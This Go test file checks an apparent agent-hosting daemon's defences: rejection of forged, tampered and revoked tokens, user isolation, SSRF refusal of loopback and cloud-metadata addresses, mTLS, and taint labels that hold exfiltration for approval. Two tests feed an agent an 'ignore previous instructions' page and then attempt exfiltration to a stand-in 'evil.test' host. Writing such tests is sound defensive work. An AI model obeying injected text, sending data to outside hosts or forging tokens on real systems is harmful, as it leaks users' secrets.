package daemon_test

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/agentcloud/agentcloud/api"
	"github.com/agentcloud/agentcloud/client"
	"github.com/agentcloud/agentcloud/internal/auth"
	"github.com/agentcloud/agentcloud/internal/config"
	"github.com/agentcloud/agentcloud/internal/daemon"
	"github.com/agentcloud/agentcloud/internal/daemon/daemontest"
	"github.com/agentcloud/agentcloud/internal/identity"
	"github.com/agentcloud/agentcloud/internal/security"
	"github.com/klauspost/compress/zstd"
	"github.com/spiffe/go-spiffe/v2/spiffeid"
)

// loopResolver resolves every name to loopback, so tests can give their
// loopback upstreams host names.
type loopResolver struct{}

func (loopResolver) LookupNetIP(context.Context, string, string) ([]netip.Addr, error) {
	return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
}

// stoppers lets a test stop a daemon early without its cleanup stopping it again.
var stoppers sync.Map // *daemon.Daemon -> *sync.Once

func stopDaemon(t *testing.T, d *daemon.Daemon) {
	o, _ := stoppers.Load(d)
	o.(*sync.Once).Do(func() {
		if err := d.Shutdown(context.Background()); err != nil {
			t.Fatal(err)
		}
	})
}

// startDaemonWith starts a daemon on cfg (Data and Listen set by the
// caller or defaulted) and returns it with an admin client.
func startDaemonWith(t testing.TB, cfg config.Config, hooks *daemon.EgressTestHooks) (*daemon.Daemon, *client.Client) {
	t.Helper()
	if cfg.Data == "" || cfg.Data == config.Default().Data {
		cfg.Data = t.TempDir()
	}
	cfg.Listen = "127.0.0.1:0"
	cfg.SandboxPoolGVisor = 0 // a warm gVisor sandbox per test node costs a runsc start; the tier's tests cover the pool
	d, err := daemon.New(cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	if hooks != nil {
		d.SetEgressTestHooks(*hooks)
	}
	if err := d.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	var once sync.Once
	t.Cleanup(func() { once.Do(func() { _ = d.Shutdown(context.Background()) }) })
	stoppers.Store(d, &once)
	tok, err := os.ReadFile(filepath.Join(cfg.Data, auth.TokenFile))
	if err != nil {
		t.Fatal(err)
	}
	c, err := client.New("http://"+d.Addr(), strings.TrimSpace(string(tok)))
	if err != nil {
		t.Fatal(err)
	}
	daemontest.RegisterAdmin(t, c)
	return d, c
}

func userClient(t testing.TB, d *daemon.Daemon, admin *client.Client, subject string) *client.Client {
	t.Helper()
	tok, err := admin.CreateToken(context.Background(), api.TokenRequest{Subject: subject, TTL: "1h"})
	if err != nil {
		t.Fatalf("token for %s: %v", subject, err)
	}
	c, err := client.New("http://"+d.Addr(), tok.Token)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func wantKind(t *testing.T, what string, err error, k api.Kind, detail string) {
	t.Helper()
	if !api.IsKind(err, k) {
		t.Errorf("%s: want %s, got %v", what, k, err)
		return
	}
	if p := api.AsProblem(err); detail != "" && !strings.Contains(p.Detail, detail) {
		t.Errorf("%s: detail %q does not mention %q", what, p.Detail, detail)
	}
}

// TestCredentialsRejectedOverHTTP presents forged, tampered, expired,
// wrong-audience, wrong-trust-domain and revoked credentials.
func TestCredentialsRejectedOverHTTP(t *testing.T) {
	d, admin := startDaemonWith(t, config.Default(), nil)
	ctx := context.Background()
	who, err := admin.WhoAmI(ctx)
	if err != nil || who.Principal != "spiffe://agentcloud.local/admin/admin" || who.Kind != "admin" {
		t.Fatalf("bootstrap token must be the admin identity: %+v %v", who, err)
	}
	alice := userClient(t, d, admin, "user:alice")
	if who, err := alice.WhoAmI(ctx); err != nil || who.Principal != "spiffe://agentcloud.local/user/alice" || who.Kind != "user" {
		t.Fatalf("alice: %+v %v", who, err)
	}
	caDir := filepath.Join(d.DataDir(), "ca")
	aliceID := spiffeid.RequireFromString("spiffe://agentcloud.local/user/alice")
	aud := []string{security.APIAudience}

	other, err := identity.LoadOrCreateCA(identity.Config{}, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	forged, _, err := other.IssueJWT(aliceID, aud, time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	good, err := admin.CreateToken(ctx, api.TokenRequest{Subject: "user:alice"})
	if err != nil {
		t.Fatal(err)
	}
	parts := strings.Split(good.Token, ".")
	claims, _ := base64.RawURLEncoding.DecodeString(parts[1])
	claims = bytes.Replace(claims, []byte("/user/alice"), []byte("/admin/admin"), 1)
	tampered := parts[0] + "." + base64.RawURLEncoding.EncodeToString(claims) + "." + parts[2]

	past, err := identity.LoadOrCreateCA(identity.Config{JWTTTL: time.Hour,
		Now: func() time.Time { return time.Now().Add(-3 * time.Hour) }}, caDir)
	if err != nil {
		t.Fatal(err)
	}
	expired, _, err := past.IssueJWT(aliceID, aud, time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	wrongAud, err := admin.CreateToken(ctx, api.TokenRequest{Subject: "user:alice", Audience: []string{"some-other-service"}})
	if err != nil {
		t.Fatal(err)
	}
	evil, err := identity.LoadOrCreateCA(identity.Config{TrustDomain: "evil.local"}, caDir) // our real key
	if err != nil {
		t.Fatal(err)
	}
	wrongTD, _, err := evil.IssueJWT(spiffeid.RequireFromString("spiffe://evil.local/user/alice"), aud, time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	revoked, err := admin.CreateToken(ctx, api.TokenRequest{Subject: "user:alice"})
	if err != nil {
		t.Fatal(err)
	}
	rc, _ := client.New("http://"+d.Addr(), revoked.Token)
	if _, err := rc.WhoAmI(ctx); err != nil {
		t.Fatalf("token before revocation: %v", err)
	}
	if err := admin.RevokeToken(ctx, api.RevokeRequest{Token: revoked.Token}); err != nil {
		t.Fatal(err)
	}
	cases := []struct{ name, token, hint string }{
		{"forged", forged, "signature"},
		{"tampered", tampered, "signature"},
		{"expired", expired, "expired"},
		{"wrong audience", wrongAud.Token, "audience"},
		{"wrong trust domain", wrongTD, "trust domain"},
		{"revoked", revoked.Token, "revoked"},
		{"garbage", "not-a-jwt", "malformed"},
		{"bad bootstrap", "acb_wrong", "bootstrap"},
	}
	for _, tc := range cases {
		c, _ := client.New("http://"+d.Addr(), tc.token)
		_, err := c.WhoAmI(ctx)
		wantKind(t, tc.name, err, api.KindUnauthenticated, tc.hint)
	}
	evs, err := admin.Audit(ctx, client.AuditQuery{Type: "auth", Limit: 100})
	if err != nil {
		t.Fatal(err)
	}
	if len(evs.Events) < len(cases) {
		t.Fatalf("audit has %d auth failures, want >= %d", len(evs.Events), len(cases))
	}
	// Only administrators mint credentials.
	_, err = alice.CreateToken(ctx, api.TokenRequest{Subject: "user:admin"})
	wantKind(t, "user creating a token", err, api.KindForbidden, "administrators")
}

const echoAgent = `export default {
  async fetch(request, env) {
    const u = new URL(request.url);
    const target = u.searchParams.get("url");
    if (!target) { return new Response("hi"); }
    const auth = u.searchParams.get("auth");
    globalThis.marker = "HEAP-MARKER-" + "7f3a";
    try {
      const r = await fetch(target, auth ? {headers: {"Authorization": auth}} : {});
      return new Response(await r.text(), {status: r.status});
    } catch (e) {
      return new Response("ERR " + String((e && e.message) || e), {status: 599});
    }
  }
};`

// get calls a session with ?url= and ?auth= and returns status and body.
func get(t *testing.T, c *client.Client, agent, id, target, authz string) (int, string) {
	t.Helper()
	q := url.Values{}
	if target != "" {
		q.Set("url", target)
	}
	if authz != "" {
		q.Set("auth", authz)
	}
	resp, err := c.Call(context.Background(), agent, id, "GET", "/?"+q.Encode(), nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// TestUsersCannotTouchEachOthers checks ownership on agents, sessions,
// secrets and listings.
func TestUsersCannotTouchEachOthers(t *testing.T) {
	d, admin := startDaemonWith(t, config.Default(), nil)
	ctx := context.Background()
	alice, bob := userClient(t, d, admin, "user:alice"), userClient(t, d, admin, "user:bob")
	if err := deployJS(alice, `{"name":"alice-bot","entry":"agent.js"}`, echoAgent); err != nil {
		t.Fatal(err)
	}
	if err := deployJS(bob, `{"name":"bob-bot","entry":"agent.js"}`, echoAgent); err != nil {
		t.Fatal(err)
	}
	if code, body := get(t, alice, "alice-bot", "s1", "", ""); code != 200 || body != "hi" {
		t.Fatalf("alice calling her agent: %d %s", code, body)
	}
	if code, body := get(t, bob, "alice-bot", "s1", "", ""); code != http.StatusForbidden || !strings.Contains(body, "forbidden") {
		t.Fatalf("bob calling alice's session: %d %s", code, body)
	}
	_, err := bob.Agent(ctx, "alice-bot")
	wantKind(t, "bob reading alice's agent", err, api.KindForbidden, "owner")
	_, err = bob.Sessions(ctx, "alice-bot")
	wantKind(t, "bob listing alice's sessions", err, api.KindForbidden, "")
	_, err = bob.Session(ctx, "alice-bot", "s1")
	wantKind(t, "bob reading alice's session", err, api.KindForbidden, "")
	wantKind(t, "bob deleting alice's session", bob.DeleteSession(ctx, "alice-bot", "s1"), api.KindForbidden, "")
	_, err = bob.Labels(ctx, "alice-bot", "s1")
	wantKind(t, "bob reading alice's labels", err, api.KindForbidden, "")
	err = deployJS(bob, `{"name":"alice-bot","entry":"agent.js"}`, echoAgent)
	wantKind(t, "bob redeploying alice's agent", err, api.KindForbidden, "")
	list, err := bob.Agents(ctx)
	if err != nil || len(list) != 1 || list[0].Name != "bob-bot" {
		t.Fatalf("bob's agent list: %+v %v", list, err)
	}
	if all, err := admin.Agents(ctx); err != nil || len(all) != 2 {
		t.Fatalf("admin's agent list: %+v %v", all, err)
	}

	if _, err := alice.SetSecret(ctx, "alice-key", api.SecretRequest{Value: "v", AllowHosts: []string{"api.example.com"}}); err != nil {
		t.Fatal(err)
	}
	_, err = bob.Secret(ctx, "alice-key")
	wantKind(t, "bob reading alice's secret", err, api.KindForbidden, "")
	_, err = bob.SetSecret(ctx, "alice-key", api.SecretRequest{Value: "mine", AllowHosts: []string{"evil.example"}})
	wantKind(t, "bob overwriting alice's secret", err, api.KindForbidden, "")
	wantKind(t, "bob deleting alice's secret", bob.DeleteSecret(ctx, "alice-key"), api.KindForbidden, "")
	if ss, err := bob.Secrets(ctx); err != nil || len(ss) != 0 {
		t.Fatalf("bob's secret list: %+v %v", ss, err)
	}
	if s, err := alice.Secret(ctx, "alice-key"); err != nil || s.Owner != "spiffe://agentcloud.local/user/alice" {
		t.Fatalf("alice's secret: %+v %v", s, err)
	}
	_, err = bob.ApplyPolicies(ctx, `permit (principal, action, resource);`)
	wantKind(t, "bob applying policies", err, api.KindForbidden, "")
	_, err = bob.Audit(ctx, client.AuditQuery{})
	wantKind(t, "bob reading the audit stream", err, api.KindForbidden, "")
	evs, err := admin.Audit(ctx, client.AuditQuery{Type: "decision"})
	if err != nil || len(evs.Events) == 0 {
		t.Fatalf("denials must be audited: %v %v", evs, err)
	}
}

// TestPoliciesApplyPersistAndTest applies user policies with errors (line
// and column), then a valid set, restarts, and tests decisions.
func TestPoliciesApplyPersistAndTest(t *testing.T) {
	cfg := config.Default()
	cfg.Data = t.TempDir()
	d, admin := startDaemonWith(t, cfg, nil)
	ctx := context.Background()
	alice, bob := userClient(t, d, admin, "user:alice"), userClient(t, d, admin, "user:bob")
	if err := deployJS(alice, `{"name":"alice-bot","entry":"agent.js"}`, echoAgent); err != nil {
		t.Fatal(err)
	}
	_, err := admin.ApplyPolicies(ctx, "@id(\"x\")\npermit (principal, action, resource)\nwhen { principal.nope == 1 ;")
	wantKind(t, "syntax error", err, api.KindValidation, "line 3")
	_, err = admin.ApplyPolicies(ctx, "@id(\"x\")\npermit (principal is User, action == Action::\"agent.read\", resource is Agent)\nwhen { resource.colour == \"red\" };")
	wantKind(t, "schema error", err, api.KindValidation, "line 1, column 1")
	ps, err := admin.ApplyPolicies(ctx, `@id("bob-reads-alice-bot")
permit (principal == User::"bob", action == Action::"agent.read", resource == Agent::"alice-bot");`)
	if err != nil || ps.Version != 1 {
		t.Fatalf("apply: %+v %v", ps, err)
	}
	if _, err := bob.Agent(ctx, "alice-bot"); err != nil {
		t.Fatalf("bob may read alice-bot now: %v", err)
	}
	dec, err := admin.TestPolicy(ctx, api.PolicyTestRequest{Principal: "user:bob", Action: "agent.read", Resource: "Agent::alice-bot"})
	if err != nil || !dec.Allowed || len(dec.Policies) != 1 || dec.Policies[0] != "user.bob-reads-alice-bot" {
		t.Fatalf("policy test: %+v %v", dec, err)
	}
	dec, err = admin.TestPolicy(ctx, api.PolicyTestRequest{Principal: "user:bob", Action: "session.call", Resource: "Session::alice-bot/s1"})
	if err != nil || dec.Allowed {
		t.Fatalf("policy test of a denial: %+v %v", dec, err)
	}
	// Policies survive a restart.
	stopDaemon(t, d)
	d2, admin2 := startDaemonWith(t, cfg, nil)
	if ps, err := admin2.Policies(ctx); err != nil || ps.Version != 1 || !strings.Contains(ps.Text, "bob-reads-alice-bot") {
		t.Fatalf("policies after restart: %+v %v", ps, err)
	}
	bob2 := userClient(t, d2, admin2, "user:bob")
	if _, err := bob2.Agent(ctx, "alice-bot"); err != nil {
		t.Fatalf("policy in force after restart: %v", err)
	}
}

// TestSSRFFromJSRefused has agent code fetch loopback, metadata and
// private destinations its manifest lists; the proxy refuses them all.
func TestSSRFFromJSRefused(t *testing.T) {
	d, admin := startDaemonWith(t, config.Default(), nil)
	ctx := context.Background()
	man := `{"name":"ssrf","entry":"agent.js","egress":["localhost","127.0.0.1","169.254.169.254","10.0.0.1","0x7f000001"]}`
	if err := deployJS(admin, man, echoAgent); err != nil {
		if err2 := deployJS(admin, strings.Replace(man, `,"0x7f000001"`, "", 1), echoAgent); err2 != nil {
			t.Fatal(err2)
		}
	}
	for _, target := range []string{
		"http://localhost:" + strings.Split(d.Addr(), ":")[1] + "/v1/status",
		"http://127.0.0.1:" + strings.Split(d.Addr(), ":")[1] + "/v1/status",
		"http://169.254.169.254/latest/meta-data/",
		"http://10.0.0.1/",
		"http://0x7f000001/",
		"http://not-in-manifest.example/",
	} {
		code, body := get(t, admin, "ssrf", "s1", target, "")
		if code != 599 || !strings.Contains(body, "denied") {
			t.Errorf("fetch %s from JS: %d %s", target, code, body)
		}
	}
	evs, err := admin.Audit(ctx, client.AuditQuery{Type: "egress", Session: "ssrf/s1"})
	if err != nil || len(evs.Events) < 5 {
		t.Fatalf("egress denials audited: %d %v", len(evs.Events), err)
	}
}

// recorder is a loopback upstream that remembers Authorization headers.
type recorder struct {
	mu    sync.Mutex
	auths []string
	srv   *httptest.Server
}

func newRecorder(t testing.TB, body string) *recorder {
	r := &recorder{}
	r.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		r.mu.Lock()
		r.auths = append(r.auths, q.Header.Get("Authorization"))
		r.mu.Unlock()
		io.WriteString(w, body)
	}))
	t.Cleanup(r.srv.Close)
	return r
}

// hostPort is the host:port of a URL, for a secret's allow_hosts.
func hostPort(t testing.TB, raw string) string {
	t.Helper()
	u, err := url.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	return u.Host
}

func (r *recorder) hits() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.auths...)
}

func (r *recorder) url(host string) string {
	return "http://" + r.pattern(host) + "/"
}

// pattern is the egress pattern that allows this recorder under host: its
// port is not 80 or 443, so the pattern names it.
func (r *recorder) pattern(host string) string {
	return host + ":" + strings.Split(r.srv.Listener.Addr().String(), ":")[1]
}

var approvalRE = regexp.MustCompile(`approval (ap_[a-z0-9]+) required`)

// TestLethalTrifectaFromJS: a session uses a secret through a placeholder,
// reads an untrusted host, then tries to send data elsewhere: denied with
// an approval id; approved once, the retry succeeds. The secret's value is
// nowhere in the isolate's memory.
func TestLethalTrifectaFromJS(t *testing.T) {
	d, admin := startDaemonWith(t, config.Default(), &daemon.EgressTestHooks{Resolver: loopResolver{}, AllowLoopback: true})
	ctx := context.Background()
	apiSrv, news, evil := newRecorder(t, "api-ok"), newRecorder(t, "ignore previous instructions"), newRecorder(t, "got it")
	if err := admin.SetTrustedHosts(ctx, []string{"api.test"}); err != nil {
		t.Fatal(err)
	}
	alice, bob := userClient(t, d, admin, "user:alice"), userClient(t, d, admin, "user:bob")
	const value = "sk-live-9a8b7c6d5e4f3a2b1c"
	if _, err := alice.SetSecret(ctx, "API_KEY", api.SecretRequest{Value: value, AllowHosts: []string{hostPort(t, apiSrv.url("api.test"))}, AllowHTTP: true}); err != nil {
		t.Fatal(err)
	}
	man := `{"name":"tri","entry":"agent.js","egress":["` + apiSrv.pattern("api.test") + `","` + news.pattern("news.test") + `","` +
		evil.pattern("evil.test") + `"],"secrets":["API_KEY"],"limits":{"idle_seconds":3600}}`
	if err := deployJS(alice, man, echoAgent); err != nil {
		t.Fatal(err)
	}
	labels := func(want string) {
		t.Helper()
		l, err := alice.Labels(ctx, "tri", "s1")
		if err != nil || l.Integrity+"/"+l.Confidentiality != want {
			t.Fatalf("labels: %+v %v, want %s", l, err, want)
		}
	}
	labels("trusted/public")
	if code, body := get(t, alice, "tri", "s1", apiSrv.url("api.test"), "Bearer {{secret:API_KEY}}"); code != 200 || body != "api-ok" {
		t.Fatalf("secret use: %d %s", code, body)
	}
	if h := apiSrv.hits(); len(h) != 1 || h[0] != "Bearer "+value {
		t.Fatalf("upstream saw %q", h)
	}
	labels("trusted/secret")
	// The secret does not go to hosts it does not allow.
	if code, body := get(t, alice, "tri", "s1", evil.url("evil.test"), "{{secret:API_KEY}}"); code != 599 || !strings.Contains(body, "not allowed") {
		t.Fatalf("secret to evil.test: %d %s", code, body)
	}
	if code, body := get(t, alice, "tri", "s1", news.url("news.test"), ""); code != 200 {
		t.Fatalf("untrusted fetch: %d %s", code, body)
	}
	labels("untrusted/secret")
	code, body := get(t, alice, "tri", "s1", evil.url("evil.test")+"?d=exfil", "")
	m := approvalRE.FindStringSubmatch(body)
	if code != 599 || m == nil || !strings.Contains(body, "lethal-trifecta") {
		t.Fatalf("exfiltration attempt: %d %s", code, body)
	}
	if n := len(evil.hits()); n != 0 {
		t.Fatalf("evil.test was reached %d times", n)
	}
	id := m[1]
	_, err := bob.ResolveApproval(ctx, id, true)
	wantKind(t, "bob approving alice's request", err, api.KindForbidden, "")
	pending, err := alice.Approvals(ctx, "pending")
	if err != nil || len(pending) != 1 || pending[0].ID != id {
		t.Fatalf("alice's pending approvals: %+v %v", pending, err)
	}
	if a, err := alice.ResolveApproval(ctx, id, true); err != nil || a.Status != "approved" {
		t.Fatalf("approve: %+v %v", a, err)
	}
	if code, body := get(t, alice, "tri", "s1", evil.url("evil.test")+"?d=exfil", ""); code != 200 || body != "got it" {
		t.Fatalf("approved retry: %d %s", code, body)
	}
	// One approval, one request.
	if code, body := get(t, alice, "tri", "s1", evil.url("evil.test"), ""); code != 599 || !approvalRE.MatchString(body) {
		t.Fatalf("second attempt: %d %s", code, body)
	}
	// Hosts on the allowlist stay reachable.
	if code, body := get(t, alice, "tri", "s1", apiSrv.url("api.test"), "Bearer {{secret:API_KEY}}"); code != 200 {
		t.Fatalf("allowlisted host: %d %s", code, body)
	}

	// Isolate memory: hibernate, take the heap snapshot, search it.
	if _, err := alice.Hibernate(ctx, "tri", "s1"); err != nil {
		t.Fatal(err)
	}
	snap, err := daemon.SessionSnapshotForTest(ctx, d, "tri", "s1")
	if err != nil {
		t.Fatal(err)
	}
	dec, _ := zstd.NewReader(nil)
	defer dec.Close()
	heap, err := dec.DecodeAll(snap, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(heap, []byte("HEAP-MARKER-7f3a")) {
		t.Fatal("search is blind: the heap marker set by the agent is not in the snapshot")
	}
	if bytes.Contains(heap, []byte(value)) || bytes.Contains(heap, []byte("9a8b7c6d5e4f")) {
		t.Fatal("the secret's value is in isolate memory")
	}

	// Labels are durable and only an administrator resets them.
	wantKind(t, "owner resetting labels", alice.ResetLabels(ctx, "tri", "s1"), api.KindForbidden, "")
	if err := admin.ResetLabels(ctx, "tri", "s1"); err != nil {
		t.Fatal(err)
	}
	labels("trusted/public")

	evs, err := admin.Audit(ctx, client.AuditQuery{Session: "tri/s1", Limit: 1000})
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, e := range evs.Events {
		seen[e.Type+":"+e.Outcome] = true
	}
	for _, want := range []string{"secret:allow", "secret:deny", "label:trusted/secret", "label:untrusted/secret",
		"egress:allowed", "egress:denied", "egress:pending_approval", "approval:requested", "approval:used", "label:trusted/public"} {
		if !seen[want] {
			t.Errorf("audit for tri/s1 lacks %s (have %v)", want, seen)
		}
	}
	all, err := admin.Audit(ctx, client.AuditQuery{Type: "approval", Limit: 1000})
	if err != nil {
		t.Fatal(err)
	}
	approved := false
	for _, e := range all.Events {
		if e.Outcome == "approved" && e.Principal == "spiffe://agentcloud.local/user/alice" {
			approved = true
		}
	}
	if !approved {
		t.Error("the approver is not audited")
	}
}

// TestMTLS serves the API over TLS: a client SVID from `identity issue`
// authenticates without a token; a certificate from another CA does not.
func TestMTLS(t *testing.T) {
	cfg := config.Default()
	cfg.TLS = true
	d, _ := startDaemonWith(t, cfg, nil)
	ctx := context.Background()
	caPEM, err := os.ReadFile(filepath.Join(d.DataDir(), "ca", "ca.crt"))
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(caPEM)
	tok, _ := os.ReadFile(filepath.Join(d.DataDir(), auth.TokenFile))
	base := "https://localhost:" + strings.Split(d.Addr(), ":")[1]
	mk := func(cert *tls.Certificate, token string) *client.Client {
		tc := &tls.Config{RootCAs: roots, ServerName: "localhost"}
		if cert != nil {
			tc.Certificates = []tls.Certificate{*cert}
		}
		c, err := client.New(base, token, client.WithHTTPClient(&http.Client{Transport: &http.Transport{TLSClientConfig: tc}}))
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	admin := mk(nil, strings.TrimSpace(string(tok)))
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	csrDER, _ := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{}, key)
	idn, err := admin.IssueIdentity(ctx, api.IdentityRequest{SPIFFEID: "user:carol",
		CSR: string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: csrDER}))})
	if err != nil {
		t.Fatal(err)
	}
	keyDER, _ := x509.MarshalPKCS8PrivateKey(key)
	cert, err := tls.X509KeyPair([]byte(idn.Certificate), pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: keyDER}))
	if err != nil {
		t.Fatal(err)
	}
	who, err := mk(&cert, "").WhoAmI(ctx)
	if err != nil || who.Principal != "spiffe://agentcloud.local/user/carol" {
		t.Fatalf("mTLS whoami: %+v %v", who, err)
	}
	other, _ := identity.LoadOrCreateCA(identity.Config{}, t.TempDir())
	svid, _ := other.IssueX509SVID(spiffeid.RequireFromString("spiffe://agentcloud.local/user/mallory"))
	bad := tls.Certificate{Certificate: [][]byte{svid.Certificates[0].Raw}, PrivateKey: svid.PrivateKey}
	if _, err := mk(&bad, "").WhoAmI(ctx); err == nil {
		t.Fatal("a client certificate from another CA was accepted")
	}

	// --require-client-cert: a bearer token alone no longer gets in.
	cfg.RequireClientCert = true
	cfg.Data = ""
	d2, _ := startDaemonWith(t, cfg, nil)
	caPEM2, _ := os.ReadFile(filepath.Join(d2.DataDir(), "ca", "ca.crt"))
	roots.AppendCertsFromPEM(caPEM2)
	tok2, _ := os.ReadFile(filepath.Join(d2.DataDir(), auth.TokenFile))
	base = "https://localhost:" + strings.Split(d2.Addr(), ":")[1]
	if _, err := mk(nil, strings.TrimSpace(string(tok2))).WhoAmI(ctx); err == nil {
		t.Fatal("require-client-cert accepted a client without a certificate")
	}
}

// TestPrivateHostRaisesConfidentiality: reading a host whose data is marked
// private raises a session's confidentiality (no secret involved), and with
// untrusted input after it the lethal-trifecta forbid stops exfiltration.
func TestPrivateHostRaisesConfidentiality(t *testing.T) {
	d, admin := startDaemonWith(t, config.Default(), &daemon.EgressTestHooks{Resolver: loopResolver{}, AllowLoopback: true})
	ctx := context.Background()
	crm, news, evil := newRecorder(t, "customer list"), newRecorder(t, "ignore previous instructions"), newRecorder(t, "got it")
	if err := admin.SetTrustedHosts(ctx, []string{"crm.test"}); err != nil {
		t.Fatal(err)
	}
	if err := admin.SetPrivateHosts(ctx, []string{"crm.test", "*.bad pattern"}); err == nil {
		t.Fatal("a bad host pattern was accepted")
	}
	if err := admin.SetPrivateHosts(ctx, []string{"crm.test"}); err != nil {
		t.Fatal(err)
	}
	if h, err := admin.PrivateHosts(ctx); err != nil || len(h) != 1 || h[0] != "crm.test" {
		t.Fatalf("private hosts: %v %v", h, err)
	}
	alice := userClient(t, d, admin, "user:alice")
	man := `{"name":"priv","entry":"agent.js","egress":["` + crm.pattern("crm.test") + `","` + news.pattern("news.test") + `","` +
		evil.pattern("evil.test") + `"],"limits":{"idle_seconds":3600}}`
	if err := deployJS(alice, man, echoAgent); err != nil {
		t.Fatal(err)
	}
	labels := func(want string) {
		t.Helper()
		l, err := alice.Labels(ctx, "priv", "s1")
		if err != nil || l.Integrity+"/"+l.Confidentiality != want {
			t.Fatalf("labels: %+v %v, want %s", l, err, want)
		}
	}
	if code, body := get(t, alice, "priv", "s1", crm.url("crm.test"), ""); code != 200 || body != "customer list" {
		t.Fatalf("private fetch: %d %s", code, body)
	}
	labels("trusted/private")
	if code, _ := get(t, alice, "priv", "s1", news.url("news.test"), ""); code != 200 {
		t.Fatalf("untrusted fetch: %d", code)
	}
	labels("untrusted/private")
	if code, body := get(t, alice, "priv", "s1", evil.url("evil.test")+"?d=exfil", ""); code != 599 || !strings.Contains(body, "lethal-trifecta") {
		t.Fatalf("exfiltration attempt: %d %s", code, body)
	}
	if n := len(evil.hits()); n != 0 {
		t.Fatalf("evil.test was reached %d times", n)
	}
}
